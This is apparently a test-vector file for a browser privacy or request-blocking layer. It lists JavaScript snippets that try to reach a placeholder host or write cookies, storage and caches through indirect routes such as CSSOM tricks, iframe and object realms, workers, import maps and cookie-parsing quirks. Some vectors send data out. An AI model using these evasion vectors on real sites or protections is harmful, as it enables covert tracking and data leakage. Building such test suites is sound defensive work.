// channel: styles by script
// vector cssom-nested-insert
const e = document.createElement("style"); e.textContent = "#b-{id}{color:red}"; document.head.append(e); e.sheet.cssRules[0].insertRule("&{background:url({t}/a.png)}"); leak.box().id = "b-{id}";
// vector cssom-animate-class
const b = leak.box(); b.textContent = "a"; class K { backgroundImage = "url({t}/a.png)"; } b.animate([new K(), new K()], 5000);
// vector cssom-animate-null
const b = leak.box(); b.textContent = "a"; b.animate(Object.assign(Object.create(null), { backgroundImage: ["url({t}/a.png)", "url({t}/a.png)"] }), 5000);
// vector cssom-animate-frame-object
const f = document.createElement("iframe"); document.body.append(f); const b = leak.box(); b.textContent = "a"; const o = new f.contentWindow.Object(); o.backgroundImage = "url({t}/a.png)"; b.animate([o, o], 5000);
// vector cssom-set-keyframes
const b = leak.box(); b.textContent = "a"; const a = b.animate([], 5000); a.effect.setKeyframes([{ backgroundImage: "url({t}/a.png)" }, { backgroundImage: "url({t}/a.png)" }]);
// vector cssom-string-variable
const e = document.createElement("style"); e.textContent = "#b-{id}{background-image:image-set(var(--s-{id}) 1x)}"; document.head.append(e); const b = leak.box(); b.id = "b-{id}"; b.style.setProperty("--s-{id}", "'{t}/a.png'");
// vector cssom-style-map-value
leak.box().attributeStyleMap.set("background-image", CSSStyleValue.parse("background-image", "url({t}/a.png)"));
// vector cssom-style-map-unparsed
const e = document.createElement("style"); e.textContent = "#b-{id}{background:var(--w-{id})}"; document.head.append(e); const b = leak.box(); b.id = "b-{id}"; b.attributeStyleMap.set("--w-{id}", new CSSUnparsedValue(["url({t}/a.png)"]));
// vector cssom-parent-style
const b = leak.box(); b.style.color = "red"; const e = document.createElement("style"); e.textContent = "@media screen{#b-{id}{color:red}}"; document.head.append(e); b.id = "b-{id}"; e.sheet.cssRules[0].cssRules[0].style.setProperty("background", "url({t}/a.png)");
// vector cssom-font-face-rule
const e = document.createElement("style"); e.textContent = "@font-face{font-family:'i-{id}';src:local('none')}"; document.head.append(e); e.sheet.cssRules[0].style.setProperty("src", "url({t}/a.woff2)"); const b = leak.box(); b.textContent = "a"; b.style.fontFamily = "'i-{id}'";
// vector cssom-adopted-frame
const f = document.createElement("iframe"); document.body.append(f); const s = new f.contentWindow.CSSStyleSheet(); s.replaceSync("body{background:url({t}/a.png)}"); f.contentDocument.adoptedStyleSheets = [s];
// vector cssom-style-text-node
const e = document.createElement("style"); e.appendChild(document.createTextNode("#b-{id}{background:url({t}/a.png)}")); document.head.appendChild(e); leak.box().id = "b-{id}";
// vector cssom-style-sheet-text
const e = document.createElement("style"); document.head.appendChild(e); "styleSheet" in e ? (e.styleSheet.cssText = "") : e.appendChild(document.createTextNode("#b-{id}{background:url({t}/a.png)}")); leak.box().id = "b-{id}";
// vector cssom-reflect-set
Reflect.set(leak.box().style, "backgroundImage", "url({t}/a.png)");
// vector cssom-define
Object.defineProperty(leak.box().style, "backgroundImage", { value: "url({t}/a.png)" });
// vector cssom-with-spread
Object.entries({ "background-image": "url({t}/a.png)" }).forEach(([k, v]) => (leak.box().style[k] = v));
// vector cssom-mask-shorthand
const b = leak.box(); b.textContent = "a"; b.style.mask = "url({t}/a.png) no-repeat";
// vector cssom-clip-path
const b = leak.box(); b.textContent = "a"; b.style.clipPath = "url({t}/a.svg#a)";
// vector cssom-offscreen-style
const v = document.createElementNS("http://www.w3.org/2000/svg", "svg"); v.setAttribute("width", "5"); v.setAttribute("style", "background-image:url({t}/a.png)"); leak.box().append(v);
// vector cssom-presentation-attribute
const n = "http://www.w3.org/2000/svg", v = document.createElementNS(n, "svg"), r = document.createElementNS(n, "rect"); r.setAttribute("width", "5"); r.setAttribute("height", "5"); r.setAttribute("mask", "url({t}/a.svg#a)"); r.setAttribute("filter", "url({t}/b.svg#a)"); v.append(r); leak.box().append(v);
// vector cssom-counter-style
const e = document.createElement("style"); e.textContent = "@counter-style c-{id}{system:cyclic;symbols:'a';suffix:' '}"; document.head.append(e); try { e.sheet.cssRules[0].symbols = "url({t}/a.png)"; } catch {} const b = leak.box(); b.style.display = "list-item"; b.style.listStyle = "c-{id}";
// channel: pristine natives of other realms
// vector realm-frame-import
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.eval("import('{t}/a.js').catch(() => 0)");
// vector realm-frame-import-computed
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.Function("u", "return import(u + '/a.js').catch(() => 0)")("{t}");
// vector realm-frame-module
const f = document.createElement("iframe"); document.body.append(f); const s = f.contentDocument.createElement("script"); s.type = "module"; s.textContent = "const u = '{t}'; import(u + '/a.js')"; f.contentDocument.body.append(s);
// vector realm-frame-timer-import
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.setTimeout("import('{t}/a.js').catch(() => 0)", 0);
// vector realm-old-frame
const f = document.createElement("frame"); leak.box().append(f); f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-old-frame-image
const f = document.createElement("frame"); leak.box().append(f); new f.contentWindow.Image().src = "{t}/a.png";
// vector realm-object-index
const o = document.createElement("object"); o.type = "text/html"; o.data = "/fp/empty.html"; o.onload = () => window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(o);
// vector realm-object-blank-index
const n = window.length, o = document.createElement("object"); o.type = "text/html"; o.data = "about:blank"; document.body.append(o); o.onload = () => window[n].fetch("{t}/a.txt", { mode: "no-cors" }); setTimeout(() => window[n] && window[n].fetch("{t}/b.txt", { mode: "no-cors" }), 300);
// vector realm-embed-index
const o = document.createElement("embed"); o.type = "text/html"; o.src = "/fp/empty.html"; o.onload = () => window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(o);
// vector realm-embed-timer-index
const n = window.length, o = document.createElement("embed"); o.type = "text/html"; o.src = "/fp/empty.html"; document.body.append(o); setTimeout(() => window[n].fetch("{t}/a.txt", { mode: "no-cors" }), 400);
// vector realm-kept-window
const f = document.createElement("iframe"); document.body.append(f); const w = f.contentWindow; f.src = "/fp/empty.html"; setTimeout(() => w.fetch("{t}/a.txt", { mode: "no-cors" }), 400);
// vector realm-kept-window-reloaded
const f = document.createElement("iframe"); f.src = "/fp/empty.html"; document.body.append(f); const w = f.contentWindow; f.onload = () => { f.onload = null; w.location.reload(); setTimeout(() => w.fetch("{t}/a.txt", { mode: "no-cors" }), 400); };
// vector realm-inserted-again
const f = document.createElement("iframe"), b = leak.box(); b.append(f); f.remove(); b.prepend(f); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" }); f.contentWindow.fetch("{t}/b.txt", { mode: "no-cors" });
// vector realm-moved
const f = document.createElement("iframe"), b = leak.box(), c = leak.box(); b.append(f); c.moveBefore(f, null); f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-cloned-index
const b = leak.box(); b.innerHTML = "<p><iframe></iframe></p>"; leak.box().append(b.firstChild.cloneNode(true)); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-parsed-index
leak.box().append(...new DOMParser().parseFromString("<iframe></iframe>", "text/html").body.childNodes); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-document-body alone
const d = new DOMParser().parseFromString("<iframe></iframe>", "text/html"); document.body = d.body; window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-replaced-inner-index
const b = leak.box(); b.outerHTML = "<section><iframe></iframe></section>"; window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-range-index
const r = document.createRange(); r.selectNodeContents(leak.box()); r.insertNode(document.createElement("iframe")); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-table-index
const t = document.createElement("table"), c = document.createElement("caption"); c.append(document.createElement("iframe")); leak.box().append(t); t.caption = c; window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-construct-target
const f = document.createElement("iframe"); document.body.append(f); const x = Reflect.construct(f.contentWindow.XMLHttpRequest, [], XMLHttpRequest); x.open("GET", "{t}/a.txt"); x.send();
// vector realm-construct-image
const f = document.createElement("iframe"); document.body.append(f); Reflect.construct(f.contentWindow.Image, [], f.contentWindow.Image).src = "{t}/a.png";
// vector realm-svg-frame
const f = document.createElement("iframe"); f.src = "/fp/empty.svg"; f.onload = () => f.getSVGDocument().defaultView.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(f);
// vector realm-event-view
const f = document.createElement("iframe"); document.body.append(f); const e = f.contentDocument.createEvent("UIEvent"); e.initUIEvent("a", true, true, f.contentWindow, 0); e.view.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-parent-walk
const f = document.createElement("iframe"); document.body.append(f); const s = f.contentDocument.createElement("script"); s.textContent = "new XMLHttpRequest().constructor; var x = new XMLHttpRequest(); x.open('GET', '{t}/a.txt'); x.send()"; f.contentDocument.head.append(s);
// vector realm-window-open-later
const w = window.open("/fp/empty.html", leak.unique("q-{id}")); setTimeout(() => w.fetch("{t}/a.txt", { mode: "no-cors" }), 500); setTimeout(() => w.close(), 1200);
// vector realm-window-open-import
const w = window.open("", leak.unique("q-{id}")); w.eval("import('{t}/a.js').catch(() => 0)"); setTimeout(() => w.close(), 900);
// vector realm-xml-document-view
const f = document.createElement("iframe"); f.src = "/fp/empty.svg"; document.body.append(f); f.onload = () => { const i = f.contentDocument.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", "{t}/a.png"); i.setAttribute("width", "5"); i.setAttribute("height", "5"); f.contentDocument.documentElement.append(i); };
// channel: network by script
// vector fetch-init-object
fetch("{t}/a.txt", Object.create({ method: "POST", body: "a", mode: "no-cors" })).catch(() => 0);
// vector fetch-request-subclass
fetch(new (class extends Request {})("{t}/a.txt", { mode: "no-cors" })).catch(() => 0);
// vector fetch-array
fetch(["{t}/a.txt"], { mode: "no-cors" }).catch(() => 0);
// vector fetch-location-like
const a = document.createElement("a"); a.href = "{t}/a.txt"; fetch(a, { mode: "no-cors" }).catch(() => 0);
// vector xhr-array
const x = new XMLHttpRequest(); x.open("GET", ["{t}/a.txt"]); x.send();
// vector xhr-open-twice
const x = new XMLHttpRequest(); x.open("GET", "/fp/empty.txt"); x.open("POST", "{t}/a.txt"); x.send(new URLSearchParams("a=1"));
// vector beacon-form
const f = new FormData(); f.append("a", "1"); navigator.sendBeacon(new URL("{t}/a.txt"), f);
// vector beacon-hidden
document.addEventListener("visibilitychange", () => navigator.sendBeacon("{t}/a.txt", "1")); document.dispatchEvent(new Event("visibilitychange"));
// vector background-fetch
const r = await navigator.serviceWorker.register("/fp/service-worker.js", { scope: "/fp/bg-{id}/" }); const w = r.installing || r.waiting || r.active; await new Promise((d) => (w.state === "activated" ? d() : (w.onstatechange = () => w.state === "activated" && d()))); await r.backgroundFetch.fetch(leak.unique("b"), ["{t}/a.txt"]);
// vector import-json
import("{t}/a.json", { with: { type: "json" } }).catch(() => 0);
// vector import-css
import("{t}/a.css", { with: { type: "css" } }).catch(() => 0);
// vector import-data
import("data:text/javascript,import '{t}/a.js'").catch(() => 0);
// vector import-blob
import(URL.createObjectURL(new Blob(["import '{t}/a.js'"], { type: "text/javascript" }))).catch(() => 0);
// vector import-relative-base alone once
const b = document.createElement("base"); b.href = "{t}/"; document.head.append(b); import("./a.js").catch(() => 0); setTimeout(() => b.remove(), 50);
// vector import-user-in-address
import("http://a:b@unlisted.test{p}/a.js").catch(() => 0);
// vector import-uppercase
import("HTTP://UNLISTED.TEST{p}/a.js").catch(() => 0);
// vector import-port
import("http://unlisted.test:8081{p}/a.js").catch(() => 0);
// vector import-map-later once
const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { ["later-{id}"]: "{t}/a.js" } }); document.head.append(m); import("later-{id}").catch(() => 0);
// vector import-map-prefix once
const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ scopes: { "/": { ["pre-{id}/"]: "{t}/" } } }); document.head.append(m); import("pre-{id}/a.js").catch(() => 0);
// vector import-map-escaped once
const m = document.createElement("script"); m.type = "importmap"; m.textContent = '{"imports":{"esc-{id}":"\\u0068ttp:\\u002f\\u002funlisted.test{p}/a.js"}}'; document.head.append(m); import("esc-{id}").catch(() => 0);
// vector speculation-document once
const a = document.createElement("a"); a.href = "{s}/a.html"; a.id = "z-{id}"; a.textContent = "a"; leak.box().append(a); const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ where: { selector_matches: "#z-{id}" }, eagerness: "immediate" }] }); document.head.append(s);
// vector rtc-url-single
const p = new RTCPeerConnection({ iceServers: [{ url: "stun:127.0.0.1:{udp}" }, { urls: "stun:127.0.0.1:{udp}?transport=udp" }] }); p.createDataChannel("a"); await p.setLocalDescription(await p.createOffer());
// vector rtc-turn
const p = new RTCPeerConnection({ iceServers: [{ urls: ["turn:127.0.0.1:{udp}?transport=udp"], username: "a", credential: "b" }] }); p.createDataChannel("a"); await p.setLocalDescription();
// vector rtc-candidate
const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel("a"); await p.setLocalDescription(); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(); await p.setRemoteDescription(q.localDescription); await p.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 {udp} typ host", sdpMid: "0", sdpMLineIndex: 0 });
// vector notification-icon
new Notification("a", { icon: "{t}/a.png" });
// vector protocol-handler
navigator.registerProtocolHandler("web+leak", location.origin + "/fp/empty.html?%s"); new Image().src = "{t}/a.png?protocol";
// vector identity-provider
await IdentityProvider.getUserInfo({ configURL: "{s}/a.json", clientId: "1" });
// vector navigation-reload
const f = document.createElement("iframe"); f.src = "/fp/empty.html"; f.onload = () => { f.onload = null; f.contentWindow.navigation.navigate("{t}/a.html", { history: "replace" }); }; document.body.append(f);
// vector css-font-worker
const w = new Worker(URL.createObjectURL(new Blob(["const f = new FontFace('z', 'url({t}/a.woff2)'); self.fonts.add(f); f.load().catch(() => 0)"])));
// vector image-decode
const i = new Image(); i.src = "{t}/a.png"; await i.decode().catch(() => 0);
// vector image-bitmap
const i = new Image(); i.crossOrigin = ""; i.src = "{t}/a.png"; i.onload = () => createImageBitmap(i);
// vector texture-loader
fetch("{t}/a.bin").then((r) => r.arrayBuffer()).catch(() => 0); const x = new XMLHttpRequest(); x.responseType = "arraybuffer"; x.open("GET", "{t}/b.bin"); x.send();
// vector jsonp
window["cb_" + leak.unique("j").replace("-", "_")] = () => 0; const s = document.createElement("script"); s.src = "{t}/a.js?callback=cb"; (document.head || document.documentElement).insertBefore(s, null);
// vector error-report
addEventListener("error", (e) => { (new Image()).src = "{t}/e.png?" + encodeURIComponent(e.message); }, { once: true }); setTimeout(() => { dispatchEvent(new ErrorEvent("error", { message: "x" })); });
// vector performance-report
new PerformanceObserver((l, o) => { o.disconnect(); navigator.sendBeacon("{t}/a.txt", JSON.stringify(l.getEntries())); }).observe({ type: "resource", buffered: true });
// channel: workers
// vector worker-data-module
new Worker("data:text/javascript,import '{t}/a.js'", { type: "module" });
// vector worker-blob-font
new Worker(URL.createObjectURL(new Blob(["new FontFace('a', 'url({t}/a.woff2)').load().catch(() => 0); importScripts()"])));
// vector worker-url-object
new Worker(new URL("/fp/fetch.js?u={u}/a.txt", location.href), { name: "a", credentials: "omit" });
// vector worker-blob-eval
new Worker(URL.createObjectURL(new Blob(["new Function('u', 'return fetch(u, { mode: \"no-cors\" })')('{t}/a.txt')"])));
// vector worker-blob-beacon
new Worker(URL.createObjectURL(new Blob(["(self.fetchLater || fetch)('{t}/a.txt', { mode: 'no-cors', keepalive: true })"])));
// vector worker-window-open
const w = window.open("", leak.unique("wo-{id}")); new w.Worker(URL.createObjectURL(new Blob(["fetch('{t}/a.txt', { mode: 'no-cors' })"]))); setTimeout(() => w.close(), 1500);
// vector worker-webtransport
new Worker(URL.createObjectURL(new Blob(["new WebTransport('https://127.0.0.1:{udp}/a').ready.catch(() => 0)"])));
// vector worker-cache-add
new Worker(URL.createObjectURL(new Blob(["caches.open('own').then((c) => c.add('{t}/a.txt')).catch(() => 0)"])));
// vector shared-worker-module
new SharedWorker(URL.createObjectURL(new Blob(["import '{t}/a.js'"], { type: "text/javascript" })), { type: "module" });
// vector shared-worker-frame
const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.SharedWorker(URL.createObjectURL(new Blob(["fetch('{t}/a.txt', { mode: 'no-cors' })"])));
// vector paint-worklet-blob
await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob(["import '{t}/a.js'"], { type: "text/javascript" }))).catch(() => 0);
// vector audio-worklet-frame
const f = document.createElement("iframe"); document.body.append(f); await new f.contentWindow.OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("{t}/a.js").catch(() => 0);
// channel: storage
// vector cookie-age-zero-first store=cookie
document.cookie = "{name}=1; path=/; max-age=086400";
// vector cookie-age-twice store=cookie
document.cookie = "{name}=1; path=/; max-age=0; max-age=86400";
// vector cookie-expired-and-age store=cookie
document.cookie = "{name}=1; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; max-age=86400";
// vector cookie-expires-twice store=cookie
document.cookie = "{name}=1; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; expires=Fri, 01 Jan 2100 00:00:00 GMT";
// vector cookie-expires-two-digits store=cookie
document.cookie = "{name}=1; path=/; expires=Fri, 01-Jan-38 00:00:00 GMT";
// vector cookie-value-of-age store=cookie
document.cookie = "{name}=a; path=/; x=max-age=0";
// vector cookie-partitioned store=cookie
document.cookie = "{name}=1; path=/; Secure; Partitioned; SameSite=None";
// vector cookie-tab store=cookie
document.cookie = "\t{name}\t=1; path=/";
// vector cookie-nested-frame store=cookie
const f = document.createElement("iframe"); document.body.append(f); const g = f.contentDocument.createElement("iframe"); f.contentDocument.body.append(g); g.contentDocument.cookie = "{name}=1; path=/";
// vector cookie-eval-frame store=cookie
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.eval("document.cookie = '{name}=1; path=/'");
// vector cookie-html-document store=cookie
const p = HTMLDocument.prototype; Object.getOwnPropertyDescriptor(Object.getPrototypeOf(p), "cookie").set.call(document, "{name}=1; path=/");
// vector cookie-lookup-setter store=cookie
document.__lookupSetter__("cookie").call(document, "{name}=1; path=/");
// vector cookie-defined-again store=cookie
const d = Object.getOwnPropertyDescriptor(Document.prototype, "cookie"); Object.defineProperty(document, "cookie", { configurable: true, get: d.get, set(v) { d.set.call(document, v); } }); document.cookie = "{name}=1; path=/"; delete document.cookie;
// vector cookie-blob-frame store=cookie
const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>document.cookie = '{name}=1; path=/'<" + "/script>"], { type: "text/html" })); document.body.append(f);
// vector cookie-window-open store=cookie
const w = window.open("", leak.unique("c-{id}")); w.document.cookie = "{name}=1; path=/"; setTimeout(() => w.close(), 500);
// vector cookie-old-frame store=cookie
const f = document.createElement("frame"); leak.box().append(f); f.contentDocument.cookie = "{name}=1; path=/";
// vector cookie-object-page store=cookie
const o = document.createElement("object"); o.type = "text/html"; o.data = "/fp/cookie.html?n={name}"; document.body.append(o);
// vector cookie-store-borrowed store=cookie
const f = document.createElement("iframe"); f.src = "/fp/empty.html"; await new Promise((d) => { f.onload = d; document.body.append(f); }); await f.contentWindow.CookieStore.prototype.set.call(cookieStore, { name: "{name}", value: "1" });
// vector local-define-many store=local
Object.defineProperties(localStorage, { "{name}": { value: "1", writable: true, enumerable: true, configurable: true } });
// vector local-reflect-define store=local
Reflect.defineProperty(localStorage, "{name}", { value: "1", writable: true, enumerable: true, configurable: true });
// vector local-inherit store=local
const o = Object.create(localStorage); o["{name}"] = "1"; Reflect.set(localStorage, "{name}", "1", localStorage);
// vector local-object-key store=local
localStorage.setItem({ toString: () => "{name}" }, 1);
// vector local-nested-frame store=local
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.eval("localStorage['{name}'] = 1");
// vector local-old-frame store=local
const f = document.createElement("frame"); leak.box().append(f); f.contentWindow.localStorage.setItem("{name}", "1");
// vector local-blob-frame store=local
const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>localStorage.setItem('{name}', '1')<" + "/script>"], { type: "text/html" })); document.body.append(f);
// vector local-event-area store=local
dispatchEvent(new StorageEvent("storage", { storageArea: null })); Storage.prototype.setItem.apply(window.localStorage, ["{name}", "1"]);
// vector session-assign store=session
Object.assign(sessionStorage, { "{name}": "1" });
// vector session-reflect store=session
Reflect.set(sessionStorage, "{name}", 1);
// vector session-old-frame store=session
const f = document.createElement("frame"); leak.box().append(f); f.contentWindow.sessionStorage.setItem("{name}", "1");
// vector database-delete-upgrade store=database
const r = indexedDB.open("{name}"); r.onupgradeneeded = () => r.result.createObjectStore("a"); r.onsuccess = () => r.result.close();
// vector database-old-frame store=database
const f = document.createElement("frame"); leak.box().append(f); const r = f.contentWindow.indexedDB.open("{name}", 1); r.onsuccess = () => r.result.close();
// vector database-eval-frame store=database
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.eval("indexedDB.open('{name}', 1)");
// vector cache-service-worker store=cache
await (await window.caches.open("{name}")).put(new Request("/fp/x"), new Response("a"));
// vector cache-shared-worker store=cache
new SharedWorker(URL.createObjectURL(new Blob(["caches.open('{name}')"])));
// vector private-directory store=file
const r = await navigator.storage.getDirectory(); await r.getDirectoryHandle("{name}", { create: true });
// vector window-name-frame store=window-name alone
const f = document.createElement("iframe"); document.body.append(f); Object.getOwnPropertyDescriptor(f.contentWindow, "name").set.call(window, "{name}");
// vector window-name-open store=window-name alone
window.open("", "_self").name = "{name}";
